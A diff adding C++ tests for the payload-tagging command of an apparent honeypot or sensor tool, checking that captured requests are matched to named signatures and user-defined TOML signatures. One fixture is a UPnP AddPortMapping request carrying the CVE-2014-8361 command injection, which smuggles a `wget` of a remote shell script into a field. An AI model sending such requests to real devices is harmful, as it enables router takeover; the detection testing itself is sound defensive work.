@@ -4,6 +4,7 @@
 #include <sys/stat.h>
 
 #include <cstdlib>
+#include <fstream>
 #include <map>
 #include <nlohmann/json.hpp>
 #include <random>
@@ -300,6 +301,52 @@ bytes
   EXPECT_EQ(datagram["session_list"], Json::array());
   ASSERT_EQ(run({"cc0000"}), 0);
   EXPECT_NE(out_.find("\nfirst sent by 203.0.113.9 to port 123/udp of the sensor dark\n"), std::string::npos) << out_;
+}
+
+TEST_F(PayloadsCommand, SignaturesAreNamedAndTheirBytesShown) {
+  Sent soap = sent(hash("aa"),
+                   "POST /picsdesc.xml HTTP/1.1\r\nSOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n"
+                   "<NewInternalClient>`cd /tmp; wget http://203.0.113.5/okiru.sh`</NewInternalClient>",
+                   1, 1);
+  soap.tags = "realtek-miniigd forgotten";
+  at_.add(soap);
+  at_.add(talk(soap.sha256, "192.0.2.1", 1));
+  at_.write();
+  ASSERT_EQ(run({"aa0000"}), 0) << err_;
+  expect_page();
+  EXPECT_NE(out_.find("\ntags\n  realtek-miniigd CVE-2014-8361 Realtek SDK miniigd: command in AddPortMapping\n    at "), std::string::npos)
+      << out_;
+  EXPECT_NE(out_.find("\n  forgotten\n"), std::string::npos) << "an id that no file knows any more: " << out_;
+  for (const Lines& arguments : {Lines{"aa0000"}, Lines{}}) {
+    const Json answer = json(arguments);
+    const Json& tags = arguments.empty() ? answer["rows"][0]["tags"] : answer["tags"];
+    EXPECT_EQ(tags[0],
+              Json({{"id", "realtek-miniigd"}, {"cve", "CVE-2014-8361"}, {"name", "Realtek SDK miniigd: command in AddPortMapping"}}));
+    EXPECT_EQ(tags[1], Json({{"id", "forgotten"}, {"cve", nullptr}, {"name", nullptr}}));
+  }
+}
+
+TEST_F(PayloadsCommand, UsersSignaturesAreAskedToo) {
+  at_.add(sent(hash("aa"), "....xyzzy....", 1, 1));
+  at_.write();
+  const auto signatures = [&](const std::string& text) {
+    std::ofstream(path("mine.toml")) << text;
+    return path("mine.toml");
+  };
+  const std::string mine = signatures(
+      "[[signature]]\nid = \"my-word\"\nname = \"A word of mine\"\nsource = \"a test\"\ndate = 2017-11-23\n"
+      "[[signature.when]]\nall = [\"xyzzy\"]\n");
+  ASSERT_EQ(run({"aa0000", "--signatures", mine}), 0) << err_;
+  EXPECT_NE(out_.find("\nno tags: no signature matched when it was ingested\nalso matched by the signatures in use now\n"
+                      "  my-word A word of mine\n    at 4: xyzzy\n"),
+            std::string::npos)
+      << out_;
+  ASSERT_EQ(run({"aa0000"}), 0) << err_;
+  EXPECT_EQ(out_.find("my-word"), std::string::npos);
+  EXPECT_EQ(run({"aa0000", "--signatures", signatures("[[signature]]\n")}), 1);
+  EXPECT_TRUE(err_.starts_with("nightjar: ")) << err_;
+  EXPECT_NE(err_.find("mine.toml"), std::string::npos) << err_;
+  EXPECT_EQ(run({"aa0000", "--signatures", path("nowhere.toml")}), 1);
 }
 
 TEST_F(PayloadsCommand, LongRunsAreFoldedAndTheRestIsShownWhenAskedFor) {
